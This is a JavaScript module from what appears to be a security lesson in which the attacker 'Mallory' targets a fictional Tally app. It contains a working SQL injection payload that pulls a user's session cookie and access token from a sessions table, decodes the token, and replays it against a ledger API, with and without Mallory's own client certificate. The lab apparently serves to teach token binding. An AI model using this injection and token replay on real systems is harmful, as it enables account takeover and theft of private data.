// What Mallory's programs share: the theft of lesson 9, and the use of what was stolen.
import { send } from '../http.js';
import { pem } from '../pem.js';

/** Good to the API, too: issued by Tally CA, to a client that Mallory has registered. */
export const ownCertificate = { cert: pem('mallory-app.pem'), key: pem('mallory-app.key.pem') };

/** Ana's session, by the SQL injection of lesson 9: the app's cookie, and the access token that the app holds. */
export async function stealSession() {
  const words = "' UNION SELECT id, access_token FROM sessions --";
  const found = await send(`https://app.tally.example:8443/search?q=${encodeURIComponent(words)}`);
  const [, id = '', token = ''] = /<li>([\w-]{43}): (eyJ[\w.-]+)/.exec(found.text) ?? [];
  console.log(token ? 'stolen: Ana’s cookie and token' : 'there is nothing to steal');
  /** @type {{ cnf?: { 'x5t#S256'?: string } }} */
  const { cnf } = JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString() || '{}'); // anyone can read it
  console.log(cnf ? `in the token: cnf ${JSON.stringify(cnf)}` : 'in the token: no cnf');
  return { id, token, cnf };
}

//#region replay
/**
 * Calls the API with a token, and shows `certificate`, if there is one.
 * @param {string} token @param {{ cert?: string, key?: string }} [certificate]
 */
export async function readLedger(token, certificate = {}) {
  const headers = { authorization: `Bearer ${token}` };
  try {
    const answer = await send('https://api.tally.example:8443/ledger', { headers, ...certificate });
    console.log(`GET /ledger: ${answer.status} ${answer.headers['www-authenticate'] ?? ''}`.trimEnd());
    if (answer.status !== 200) return;
    for (const { text, amount } of JSON.parse(answer.text).entries) console.log(`${text}: ${amount}`);
  } catch (error) {
    console.log(`no answer: ${/** @type {NodeJS.ErrnoException} */ (error).code}`);
  }
}
//#endregion
